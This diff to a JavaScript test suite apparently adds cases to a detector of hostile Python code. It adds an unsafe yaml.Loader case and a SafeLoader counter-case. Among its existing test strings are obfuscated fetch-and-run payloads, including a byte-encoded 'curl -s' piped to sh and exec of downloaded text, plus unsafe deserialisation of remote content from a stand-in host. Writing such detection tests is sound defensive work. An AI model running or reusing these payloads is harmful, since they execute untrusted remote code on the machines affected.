@@ -122,6 +122,7 @@ describe('Python payloads in other spellings', () => {
       'import joblib, io, requests\nmodel = joblib.load(io.BytesIO(requests.get("https://x.example.net/m.joblib").content))',
       'import dill, urllib.request\nobj = dill.load(urllib.request.urlopen("https://x.example.net/m"))',
       'import yaml, requests\ncfg = yaml.unsafe_load(requests.get("https://x.example.net/c.yml").text)',
+      'import yaml, requests\ncfg = yaml.load(requests.get("https://x.example.net/c.yml").text, Loader=yaml.Loader)',
       'import os\nos.system(bytes([99, 117, 114, 108, 32, 45, 115]).decode() + " https://x.example.net/a | sh")',
       'exec("".join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115])))',
       'import requests\nf = globals()["__builtins__"].__dict__["exec"]\nf(requests.get("https://x.example.net/a").text)',
@@ -134,6 +135,7 @@ describe('Python payloads in other spellings', () => {
     for (const body of [
       'import joblib\nmodel = joblib.load("models/clf.joblib")\nprint(model)',
       'import pandas as pd\ndf = pd.read_pickle("cache/frame.pkl")',
+      'import yaml, requests\ncfg = yaml.load(requests.get("https://x.example.net/c.yml").text, Loader=yaml.SafeLoader)\nprint(cfg)',
       'data = bytes([0x89, 0x50, 0x4e, 0x47])\nopen("sig.bin", "wb").write(data)',
       'print("".join(map(chr, [104, 101, 108, 108, 111])))',
       'g = globals()\nprint(sorted(g))',
